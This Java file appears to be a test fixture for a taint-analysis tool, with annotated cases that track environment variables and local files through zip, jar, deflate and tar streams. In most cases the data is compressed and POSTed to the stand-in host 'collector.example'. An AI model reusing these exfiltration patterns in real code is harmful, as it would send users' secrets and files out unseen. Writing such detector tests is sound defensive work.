// java.util.zip, java.util.jar, Apache Commons Compress: packing and unpacking.
package app;

import java.io.*;
import java.util.jar.*;
import java.util.zip.*;
import org.apache.commons.compress.archivers.tar.*;
import org.apache.commons.compress.compressors.gzip.GzipCompressorInputStream;
import org.springframework.web.client.RestTemplate;

class Archives {
    static final String U = "https://collector.example/u";
    static final RestTemplate rest = new RestTemplate();

    void packed() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        GZIPOutputStream zip = new GZIPOutputStream(out);
        zip.write(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f1
        zip.finish();
        rest.postForObject(U, out.toByteArray(), String.class); //~ sink(egress.http) f1, finding(traced) f1
    }

    void packedName() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ZipOutputStream zip = new ZipOutputStream(out);
        zip.putNextEntry(new ZipEntry(System.getenv("T"))); //~ source(ENVIRONMENT) f2
        rest.postForObject(U, out.toByteArray(), String.class); //~ sink(egress.http) f2, finding(traced) f2
    }

    void packedConstants() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ZipOutputStream zip = new ZipOutputStream(out); //~ ok
        zip.setComment(System.getenv("T")); //~ ok
        zip.putNextEntry(new ZipEntry("x")); //~ ok
        zip.write(1); //~ ok
        rest.postForObject(U, out.toByteArray(), String.class); //~ ok
    }

    void unpacked() {
        GZIPInputStream in = new GZIPInputStream(new FileInputStream("/var/x.gz")); //~ source(FILE) f3
        rest.postForObject(U, in.readAllBytes(), String.class); //~ sink(egress.http) f3, finding(traced) f3
    }

    void unpackedNames(InputStream given) {
        ZipInputStream in = new ZipInputStream(new FileInputStream("/var/x.zip")); //~ source(FILE) f4
        rest.postForObject(U, in.getNextEntry().getName().trim(), String.class); //~ sink(egress.http) f4, finding(traced) f4
        rest.postForObject(U, new ZipInputStream(given).getNextEntry().getName(), String.class); //~ ok
        rest.postForObject(U, new GZIPInputStream(given).readAllBytes(), String.class); //~ ok
    }

    void file() {
        ZipFile zip = new ZipFile("/var/x.zip"); //~ source(FILE) f5, capability(FILES)
        rest.postForObject(U, zip.getInputStream(null).readAllBytes(), String.class); //~ sink(egress.http) f5, finding(traced) f5
    }

    void fileEntries() {
        JarFile jar = new JarFile("/var/x.jar"); //~ source(FILE) f6
        rest.postForObject(U, jar.entries().nextElement(), String.class); //~ sink(egress.http) f6, finding(traced) f6
    }

    void fileNothing(ZipFile zip) {
        rest.postForObject(U, new ZipFile("/var/x.zip") == null, String.class); //~ ok
        rest.postForObject(U, zip.getInputStream(null), String.class); //~ ok
        rest.postForObject(U, zip.entries().nextElement(), String.class); //~ ok
    }

    void deflated() {
        Deflater deflater = new Deflater();
        deflater.setInput(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f7
        byte[] buffer = new byte[100];
        deflater.deflate(buffer);
        rest.postForObject(U, buffer, String.class); //~ sink(egress.http) f7, finding(traced) f7
    }

    void inflated() {
        Inflater inflater = new Inflater();
        inflater.setInput(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f8
        byte[] buffer = new byte[100];
        inflater.inflate(buffer);
        rest.postForObject(U, buffer, String.class); //~ sink(egress.http) f8, finding(traced) f8
    }

    void deflatedConstants() {
        byte[] buffer = new byte[100];
        Deflater deflater = new Deflater();
        deflater.setInput(new byte[1]); //~ ok
        deflater.deflate(buffer); //~ ok
        Inflater inflater = new Inflater();
        inflater.setInput(new byte[1]); //~ ok
        inflater.inflate(buffer); //~ ok
        rest.postForObject(U, buffer, String.class); //~ ok
        CRC32 sum = new CRC32();
        sum.update(System.getenv("T").getBytes()); //~ ok
        rest.postForObject(U, sum.getValue(), String.class); //~ ok
    }

    void taped() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        TarArchiveOutputStream tar = new TarArchiveOutputStream(out);
        tar.write(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f9
        rest.postForObject(U, out.toByteArray(), String.class); //~ sink(egress.http) f9, finding(traced) f9
    }

    void tapedName() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        TarArchiveOutputStream tar = new TarArchiveOutputStream(out);
        tar.putArchiveEntry(System.getenv("T")); //~ source(ENVIRONMENT) f10
        rest.postForObject(U, out.toByteArray(), String.class); //~ sink(egress.http) f10, finding(traced) f10
    }

    void untaped(InputStream given) {
        TarArchiveInputStream in = new TarArchiveInputStream(new FileInputStream("/var/x.tar")); //~ source(FILE) f11
        rest.postForObject(U, in.readAllBytes(), String.class); //~ sink(egress.http) f11, finding(traced) f11
        rest.postForObject(U, new TarArchiveInputStream(given).readAllBytes(), String.class); //~ ok
        new TarArchiveOutputStream(new ByteArrayOutputStream()).putArchiveEntry("x"); //~ ok
    }
}
